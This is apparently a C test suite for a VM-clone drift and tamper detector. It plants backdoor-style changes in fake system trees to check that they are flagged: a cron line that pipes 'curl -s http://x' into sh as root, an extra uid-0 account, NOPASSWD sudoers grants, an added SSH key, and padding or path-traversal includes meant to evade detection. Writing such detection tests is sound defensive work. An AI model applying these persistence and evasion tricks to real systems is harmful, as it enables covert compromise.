/* Policies end to end on directory trees: a benign clone is quiet under the
 * example Debian policy, a tampered one shows each change with its severity,
 * rule or detector, and configuration keys old -> new. */
#define _GNU_SOURCE
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "helpers.h"

#define A "\x1f"
#define POLICY VD_EXAMPLES "/policies/debian.yaml"

static char *dir, *tmpl, *clone_, *vdb;

static void template_tree(const char *t) {
        th_write(t, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
        th_write(t, "etc/group", "root:x:0:\nsudo:x:27:\nalice:x:1000:\n");
        th_write(t, "etc/shadow", "root:$6$salt$TEMPLATEHASHNEVERSTORED:19000:0:99999:7:::\nalice:!:19000::::::\n");
        chmod(th_path(t, "etc/shadow"), 0640);
        th_write(t, "etc/ssh/sshd_config",
                 "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPasswordAuthentication no\n"
                 "X11Forwarding no\n");
        mkdir(th_path(t, "etc/ssh/sshd_config.d"), 0755);
        th_write(t, "etc/ssh/ssh_host_ed25519_key", "TEMPLATE PRIVATE KEY");
        chmod(th_path(t, "etc/ssh/ssh_host_ed25519_key"), 0600);
        th_write(t, "etc/ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 TEMPLATE");
        th_write(t, "etc/sysctl.conf", "kernel.kptr_restrict = 1\nnet.ipv4.ip_forward = 0\n");
        mkdir(th_path(t, "etc/sysctl.d"), 0755);
        th_write(t, "etc/sysctl.d/10-net.conf", "net.ipv4.conf.all.rp_filter = 1\n");
        th_write(t, "etc/sudoers", "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n");
        mkdir(th_path(t, "etc/sudoers.d"), 0750);
        th_write(t, "etc/login.defs", "PASS_MAX_DAYS 99999\nUMASK 022\n");
        th_write(t, "etc/default/grub", "GRUB_CMDLINE_LINUX=\"quiet\"\n");
        th_write(t, "etc/hostname", "template\n");
        th_write(t, "etc/machine-id", "00000000000000000000000000000001\n");
        th_write(t, "etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
        mkdir(th_path(t, "etc/cron.d"), 0755);
        th_write(t, "etc/systemd/system/multi-user.target.wants/.keep", "");
        th_write(t, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3admin admin@corp\n");
        chmod(th_path(t, "root/.ssh/authorized_keys"), 0600);
        th_write(t, "var/log/syslog", "boot\n");
        th_write(t, "var/log/wtmp", "0123456789");
        th_write(t, "var/lib/systemd/random-seed", "seed");
        chmod(th_path(t, "var/lib/systemd/random-seed"), 0600);
        th_write(t, "usr/bin/tool", "#!/bin/sh\necho tool\n");
        chmod(th_path(t, "usr/bin/tool"), 0755);
        mkdir(th_path(t, "tmp"), 01777);
        chmod(th_path(t, "tmp"), 01777);
        mkdir(th_path(t, "var/tmp"), 01777);
        chmod(th_path(t, "var/tmp"), 01777);
}

static void setup(void) {
        dir = th_mkdtemp();
        tmpl = th_join(dir, "tmpl");
        clone_ = th_join(dir, "clone");
        vdb = th_join(dir, "t.vdb");
        mkdir(tmpl, 0755);
        template_tree(tmpl);
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "--policy" A POLICY A "-o" A "%s" A "-q", tmpl,
                              vdb);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        const char *cp[] = {"cp", "-a", tmpl, clone_, NULL};
        r = th_exec(cp);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
}

static void teardown(void) {
        th_rmtree(dir);
        free(dir);
        free(tmpl);
        free(clone_);
        free(vdb);
}

TestSuite(policy_cli, .init = setup, .fini = teardown);

static th_run scan(const char *report) {
        return th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                          "ctime,inode" A "--report" A "%s",
                          vdb, clone_, report);
}

static void benign(const char *c) {
        th_write(c, "etc/hostname", "web-042\n");
        th_write(c, "etc/machine-id", "8d3e2b0c4c7a4f0e9b1a2c3d4e5f6a7b\n");
        th_write(c, "etc/ssh/ssh_host_ed25519_key", "CLONE PRIVATE KEY, REGENERATED");
        chmod(th_path(c, "etc/ssh/ssh_host_ed25519_key"), 0600);
        th_write(c, "etc/ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 CLONE");
        th_write(c, "etc/ssh/ssh_host_rsa_key", "A NEW RSA KEY");
        chmod(th_path(c, "etc/ssh/ssh_host_rsa_key"), 0600);
        th_write(c, "var/log/syslog", "boot\nclone booted\nsshd started\n");
        th_write(c, "var/log/auth.log", "session opened\n");
        th_write(c, "var/log/wtmp", "0123456789abcdef");
        th_write(c, "var/lib/systemd/random-seed", "another seed");
        chmod(th_path(c, "var/lib/systemd/random-seed"), 0600);
        th_write(c, "tmp/systemd-private-x/tmp/a", "temp");
        th_write(c, "var/tmp/cache.bin", "temp");
        th_write(c, "var/cache/apt/pkgcache.bin", "cache");
        th_write(c, "root/.bash_history", "ls\n");
}

Test(policy_cli, a_benign_clone_reports_nothing_above_low) {
        benign(clone_);
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                              "ctime,inode" A "--fail-on" A "medium",
                              vdb, clone_);
        cr_assert_eq(r.status, 0, "a benign clone must be quiet above low:\n%s%s", r.out, r.err);
        th_run_free(&r);
        r = scan("json");
        cr_assert_eq(th_lines_with(r.out, "\"severity\":\"medium\"", NULL), 0, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"severity\":\"high\"", NULL), 0, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"severity\":\"critical\"", NULL), 0, "%s", r.out);
        /* ... but the changes are still there to see, at low */
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/var/log/auth.log\"", "\"change\":\"added\"",
                                   "\"severity\":\"low\"", "\"rule\":\"logs\"", NULL),
                     1, "%s", r.out);
        th_run_free(&r);
}

Test(policy_cli, a_tampered_clone_shows_each_change_with_severity_rule_and_keys) {
        benign(clone_);
        th_write(clone_, "etc/ssh/sshd_config",
                 "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPasswordAuthentication no\n"
                 "X11Forwarding no\n");
        th_write(clone_, "etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
                 "toor:x:0:0::/root:/bin/sh\n");
        th_write(clone_, "etc/shadow", "root:$6$salt$TEMPLATEHASHNEVERSTORED:19000:0:99999:7:::\n"
                                       "alice:$6$new$ALICEHASHNEVERSTORED:19001::::::\ntoor:$6$x$TOORHASH:1::::::\n");
        th_write(clone_, "etc/sysctl.d/99-forward.conf", "net.ipv4.conf.all.rp_filter = 0\n");
        th_write(clone_, "etc/sudoers.d/alice", "alice ALL=(ALL) NOPASSWD: ALL\n");
        th_write(clone_, "etc/cron.d/update", "*/5 * * * * root curl -s http://x | sh\n");
        th_write(clone_, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3admin admin@corp\nssh-rsa AAAAB3evil x\n");
        th_write(clone_, "usr/bin/tool2", "x");
        chmod(th_path(clone_, "usr/bin/tool2"), 04755);
        chmod(th_path(clone_, "etc/ssh/ssh_host_ed25519_key"), 0644);
        th_write(clone_, "var/log/wtmp", "01"); /* a login record that shrank */

        th_run r = scan("json");
        cr_assert_eq(r.status, 1, "%s", r.err);
        const char *o = r.out;
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/ssh/sshd_config\"", "\"config\":\"sshd\"",
                                   "\"PermitRootLogin\":{\"old\":\"no\",\"new\":\"yes\",\"where\":\"set in "
                                   "/etc/ssh/sshd_config:2\"}",
                                   "\"severity\":\"high\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/ssh/sshd_config\"", "\"change\":\"violation\"",
                                   "\"PermitRootLogin\":{\"old\":null,\"new\":\"yes\",\"violation\":\"expected \\\"no\\\"",
                                   NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/passwd\"", "\"config\":\"passwd\"", "\"detector\":\"uid0\"",
                                   "\"severity\":\"critical\"", "\"toor.uid\":{\"old\":null,\"new\":\"0\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/shadow\"", "\"config\":\"shadow\"",
                                   "\"alice.password\":{\"old\":\"locked\",\"new\":\"set\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/sysctl.conf\"", "\"config\":\"sysctl\"",
                                   "\"net.ipv4.conf.all.rp_filter\":{\"old\":\"1\",\"new\":\"0\"",
                                   "99-forward.conf:1", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/sudoers\"", "\"detector\":\"sudo\"",
                                   "\"alice ALL=(ALL) NOPASSWD: ALL\":{\"old\":null,\"new\":\"present\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/cron.d/update\"", "\"change\":\"added\"",
                                   "\"detector\":\"persistence\"", "\"severity\":\"high\"", NULL),
                     2, "the file and its new cron line:\n%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/root/.ssh/authorized_keys\"", "\"detector\":\"authorized-keys\"",
                                   "\"ssh-rsa AAAAB3evil x\":{\"old\":null,\"new\":\"present\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/usr/bin/tool2\"", "\"detector\":\"setuid\"", "\"rule\":\"binaries\"",
                                   "\"severity\":\"high\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/ssh/ssh_host_ed25519_key\"", "\"rule\":\"ssh-host-keys\"",
                                   "\"mode\":{\"old\":\"0600\",\"new\":\"0644\"}", "\"severity\":\"high\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/var/log/wtmp\"", "\"rule\":\"login-records\"",
                                   "\"size\":{\"old\":10,\"new\":2}", NULL),
                     1, "%s", o);
        /* never a password hash, anywhere */
        cr_assert_null(strstr(o, "HASHNEVERSTORED"));
        cr_assert_null(strstr(o, "TOORHASH"));
        th_run_free(&r);

        r = scan("text");
        cr_assert(strstr(r.out, "/etc/ssh/sshd_config: PermitRootLogin: \"no\" -> \"yes\""), "%s", r.out);
        cr_assert(strstr(r.out, "Policy violations (1 file, 1 check)"), "%s", r.out);
        cr_assert(strstr(r.out, "[rule binaries, detector setuid]"), "%s", r.out);
        th_run_free(&r);

        /* and the baseline file itself holds no hash either */
        const char *sq[] = {"sqlite3", vdb, "select group_concat(value) from config", NULL};
        r = th_exec(sq);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert_null(strstr(r.out, "HASHNEVERSTORED"), "%s", r.out);
        cr_assert(strstr(r.out, "locked"), "%s", r.out);
        th_run_free(&r);
}

Test(policy_cli, a_template_that_breaks_its_policy_is_written_and_exits_1) {
        char *t2 = th_join(dir, "bad.vdb");
        th_write(tmpl, "etc/ssh/sshd_config", "PermitRootLogin yes\nPermitEmptyPasswords yes\n");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "--policy" A POLICY A "-o" A "%s", tmpl, t2);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "policy violation (high): /etc/ssh/sshd_config: PermitRootLogin is \"yes\": expected "
                                "\"no\" (/etc/ssh/sshd_config:1)"),
                  "%s", r.err);
        cr_assert(strstr(r.err, "PermitEmptyPasswords is \"yes\": forbidden value"), "%s", r.err);
        cr_assert(strstr(r.err, "PasswordAuthentication: not set; expected \"no\""), "%s", r.err);
        cr_assert_eq(access(t2, R_OK), 0, "the baseline is written all the same");
        th_run_free(&r);
        free(t2);
}

Test(policy_cli, secrets_are_kept_only_as_keyed_hashes) {
        const char *pol = th_path(dir, "secret.yaml");
        th_write(dir, "secret.yaml",
                 "config:\n  - path: /etc/app.conf\n    format: shell\n    secret: [API_TOKEN]\n"
                 "    forbid: {API_TOKEN: changeme}\n");
        th_write(tmpl, "etc/app.conf", "API_TOKEN=s3cr3t-template-token\nLEVEL=info\n");
        char *b2 = th_join(dir, "s.vdb");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "--policy" A "%s" A "-o" A "%s" A "-q", tmpl,
                              pol, b2);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        const char *sq[] = {"sqlite3", b2, "select cast(value as text) from config where cast(key as text) = 'API_TOKEN'", NULL};
        r = th_exec(sq);
        cr_assert(strncmp(r.out, "keyed:", 6) == 0, "%s", r.out);
        th_run_free(&r);
        th_write(tmpl, "etc/app.conf", "API_TOKEN=changeme\nLEVEL=info\n");
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A "%s" A "--report" A "json", b2, tmpl,
                       pol);
        cr_assert_eq(r.status, 1);
        cr_assert_eq(th_lines_with(r.out, "\"API_TOKEN\":{\"old\":\"(secret)\",\"new\":\"(secret, changed)\"", NULL), 1,
                     "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"change\":\"violation\"", "\"API_TOKEN\":{\"old\":null,\"new\":\"(secret)\"",
                                   "forbidden value", NULL),
                     1, "%s", r.out);
        cr_assert_null(strstr(r.out, "s3cr3t"));
        cr_assert_null(strstr(r.out, "changeme"));
        th_run_free(&r);
        free(b2);
}

Test(policy_cli, policy_check_and_a_scan_under_another_policy) {
        th_write(dir, "broken.yaml", "version: 1\nrules:\n  - name: x\n    paths: [/etc/**]\n    kind: watchh\n");
        th_run r = th_vmdrift("policy" A "check" A "%s", th_path(dir, "broken.yaml"));
        cr_assert_eq(r.status, 2);
        cr_assert(strstr(r.err, "broken.yaml:5:11: expected a rule kind (watch, ignore, volatile, per-clone, growing), "
                                "got 'watchh'"),
                  "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("policy" A "check" A POLICY A "--path" A "/etc/ssh/ssh_host_rsa_key" A "--path" A "/srv/x");
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "/etc/ssh/ssh_host_rsa_key: rule ssh-host-keys (per-clone, severity high)"), "%s", r.out);
        cr_assert(strstr(r.out, "/srv/x: rule default"), "%s", r.out);
        th_run_free(&r);
        /* a rule that can never decide is pointed out, with its line */
        th_write(dir, "shadow.yaml", "rules:\n  - {name: logs, paths: [/var/log/**]}\n"
                                     "  - {name: journal, paths: [/var/log/journal/**], kind: ignore}\n");
        r = th_vmdrift("policy" A "check" A "%s", th_path(dir, "shadow.yaml"));
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.err, "shadow.yaml:3: warning: rule 'journal' never decides: rule 'logs' (line 2) comes first"),
                  "%s", r.err);
        th_run_free(&r);
        /* a broken policy fails a scan in a second, before any work */
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A "%s", vdb, clone_,
                       th_path(dir, "broken.yaml"));
        cr_assert_eq(r.status, 2, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--ignore" A "ctime,inode", vdb, clone_);
        cr_assert(strstr(r.out, "scanning under policy built-in default"), "%s", r.out);
        th_run_free(&r);
}

Test(policy_cli, accept_takes_in_configuration_values_too) {
        th_write(clone_, "etc/login.defs", "PASS_MAX_DAYS 90\nUMASK 027\n");
        char *b2 = th_join(dir, "accepted.vdb");
        th_run r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A
                              "-o" A "%s" A "--reason" A "CIS 5.4.1" A "--path" A "/etc/login.defs" A "-q",
                              vdb, clone_, b2);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                       "ctime,inode" A "--report" A "json",
                       b2, clone_);
        cr_assert_eq(r.status, 0, "%s", r.out);
        th_run_free(&r);
        th_write(clone_, "etc/login.defs", "PASS_MAX_DAYS 99999\nUMASK 027\n");
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                       "ctime,inode" A "--report" A "json",
                       b2, clone_);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/login.defs\"", "\"config\":\"shell\"",
                                   "\"PASS_MAX_DAYS\":{\"old\":\"90\",\"new\":\"99999\"", NULL),
                     1, "%s", r.out);
        th_run_free(&r);
        free(b2);
}

Test(policy_cli, a_guest_with_too_many_matching_files_is_read_up_to_a_bound_and_says_so) {
        for (int i = 0; i < 1005; i++) {
                char p[64];
                snprintf(p, sizeof p, "home/u%04d/.ssh/authorized_keys", i);
                th_write(clone_, p, "ssh-ed25519 AAAA x\n");
        }
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                              "ctime,inode" A "--report" A "json",
                              vdb, clone_);
        cr_assert_eq(r.status, 1, "%s", r.err);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"warning\"", "more than 1000 files match", NULL), 1, "%s", r.err);
        /* 1000 files for the item, /root/.ssh/authorized_keys (unchanged) among them */
        cr_assert_eq(th_lines_with(r.out, "\"detector\":\"authorized-keys\"", "\"config\":\"lines\"", NULL), 999);
        th_run_free(&r);
}

/* Padding crafted to reach a limit, and paths sshd and sudo follow, must not
 * hide what a detector looks for; a limit reached is a finding of its own. */
Test(policy_cli, padding_and_odd_includes_do_not_blind_the_detectors) {
        benign(clone_);
        /* authorized_keys: a line over 1 KiB, the admin key, a new key */
        char *longline = malloc(1200);
        memset(longline, 'A', 1100);
        memcpy(longline, "ssh-rsa ", 8);
        longline[1100] = '\0';
        char *ak;
        cr_assert(asprintf(&ak, "%s\nssh-ed25519 AAAAC3admin admin@corp\nssh-rsa AAAAB3evil x\n", longline) > 0);
        th_write(clone_, "root/.ssh/authorized_keys", ak);
        /* passwd: 5,000 padding users, then a second root */
        size_t cap = 5200 * 64, off = 0;
        char *pw = malloc(cap);
        off += (size_t)snprintf(pw + off, cap - off,
                                "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
        for (int i = 0; i < 5000; i++)
                off += (size_t)snprintf(pw + off, cap - off, "pad%d:x:%d:%d::/nonexistent:/usr/sbin/nologin\n", i,
                                        2000 + i, 2000 + i);
        off += (size_t)snprintf(pw + off, cap - off, "evil:x:00:0::/root:/bin/bash\n");
        th_write(clone_, "etc/passwd", pw);
        /* sshd_config: a relative Include that climbs out of /etc/ssh, and
         * nine nested Includes (sshd follows sixteen) */
        th_write(clone_, "etc/ssh/sshd_config",
                 "Include ../../var/tmp/x.conf\nInclude /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n"
                 "PasswordAuthentication no\nX11Forwarding no\n");
        th_write(clone_, "var/tmp/x.conf", "PermitRootLogin yes\n");
        for (int i = 1; i <= 9; i++) {
                char rel[64], text[128];
                snprintf(rel, sizeof rel, "etc/ssh/n%d", i);
                if (i < 9)
                        snprintf(text, sizeof text, "Include /etc/ssh/n%d\n", i + 1);
                else
                        snprintf(text, sizeof text, "X11Forwarding yes\n");
                th_write(clone_, rel, text);
        }
        th_write(clone_, "etc/ssh/sshd_config.d/00.conf", "Include /etc/ssh/n1\n");
        /* sudoers: @includedir through "..", and a sudoers.d name with a newline */
        th_write(clone_, "etc/sudoers", "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n"
                                        "@includedir ../../../opt/x\n");
        th_write(clone_, "opt/x/grant", "mallory ALL=(ALL) NOPASSWD: ALL\n");
        th_write(clone_, "etc/sudoers.d/a\nb", "trudy ALL=(ALL) NOPASSWD: ALL\n");

        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                              "ctime,inode" A "--fail-on" A "high" A "--report" A "json",
                              vdb, clone_);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        const char *o = r.out;
        cr_assert_eq(th_lines_with(o, "\"path\":\"/root/.ssh/authorized_keys\"", "\"detector\":\"authorized-keys\"",
                                   "\"ssh-rsa AAAAB3evil x\":{\"old\":null,\"new\":\"present\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"ssh-ed25519 AAAAC3admin admin@corp\":", NULL), 0,
                     "the admin key is unchanged, not '(not set)': %s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/passwd\"", "\"detector\":\"uid0\"",
                                   "\"evil.uid\":{\"old\":null,\"new\":\"00\"", "\"severity\":\"critical\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/passwd\"", "\"change\":\"violation\"", "\"limits\"",
                                   "\"severity\":\"high\"", "more than 20000 settings", NULL),
                     1, "the padding itself is a finding: %s", o);
        cr_assert_eq(th_lines_with(o, "\"alice.", "\"new\":null", NULL), 0, "no existing account shown as gone: %s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/ssh/sshd_config\"",
                                   "\"PermitRootLogin\":{\"old\":\"no\",\"new\":\"yes\"", "/var/tmp/x.conf:1", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/ssh/sshd_config\"",
                                   "\"X11Forwarding\":{\"old\":\"no\",\"new\":\"yes\"", "/etc/ssh/n9:1", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/sudoers\"", "\"detector\":\"sudo\"",
                                   "\"mallory ALL=(ALL) NOPASSWD: ALL\":{\"old\":null,\"new\":\"present\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"path\":\"/etc/sudoers\"", "\"detector\":\"sudo\"",
                                   "\"trudy ALL=(ALL) NOPASSWD: ALL\":{\"old\":null,\"new\":\"present\"", NULL),
                     1, "%s", o);
        th_run_free(&r);
        free(pw);
        free(ak);
        free(longline);
}

/* A file over the size bound cannot be read at all: that is a high finding,
 * and the rest of the scan still reports (numeric owners for a huge passwd). */
Test(policy_cli, an_oversized_passwd_is_a_finding_and_everything_else_is_still_reported) {
        benign(clone_);
        FILE *f = fopen(th_path(clone_, "etc/passwd"), "w");
        cr_assert_not_null(f);
        fputs("root:x:0:0:root:/root:/bin/bash\n", f);
        for (int i = 0; i < 17 * 1024; i++) {
                char pad[1024];
                memset(pad, '#', sizeof pad - 1);
                pad[sizeof pad - 1] = '\n';
                fwrite(pad, 1, sizeof pad, f);
        }
        fclose(f);
        th_write(clone_, "usr/bin/tool", "#!/bin/sh\necho replaced\n");
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                              "ctime,inode" A "--fail-on" A "high" A "--report" A "json",
                              vdb, clone_);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"warning\"", "owners shown as numbers only", NULL), 1, "%s",
                     r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/passwd\"", "\"change\":\"violation\"", "\"limits\"",
                                   "\"severity\":\"high\"", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/usr/bin/tool\"", "\"change\":\"changed\"", NULL), 1, "%s",
                     r.out);
        th_run_free(&r);
}

/* A 5 MiB line before a second root: the file is over the limit, which is a
 * finding, and the uid-0 account after the padding is still found (the
 * lines detectors need are streamed past the limit, at their line numbers),
 * so --fail-on critical fails. */
Test(policy_cli, a_line_past_the_size_limit_still_reaches_the_detectors) {
        benign(clone_);
        FILE *f = fopen(th_path(clone_, "etc/passwd"), "w");
        cr_assert_not_null(f);
        fputs("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n", f);
        for (int i = 0; i < 5 * 1024; i++) {
                char pad[1024];
                memset(pad, 'x', sizeof pad);
                fwrite(pad, 1, sizeof pad, f);
        }
        fputs("\ntoor:x:0:0::/root:/bin/bash\n", f);
        fclose(f);
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--policy" A POLICY A "--ignore" A
                              "ctime,inode" A "--fail-on" A "critical" A "--report" A "json",
                              vdb, clone_);
        cr_assert_eq(r.status, 1, "--fail-on critical must fail: %s%s", r.out, r.err);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/passwd\"", "\"change\":\"violation\"", "\"limits\"",
                                   "\"severity\":\"high\"", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/passwd\"", "\"detector\":\"uid0\"",
                                   "\"toor.uid\":{\"old\":null,\"new\":\"0\"", "\"severity\":\"critical\"",
                                   "/etc/passwd:4", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"alice.", "\"new\":null", NULL), 0, "alice is still there: %s", r.out);
        th_run_free(&r);
}
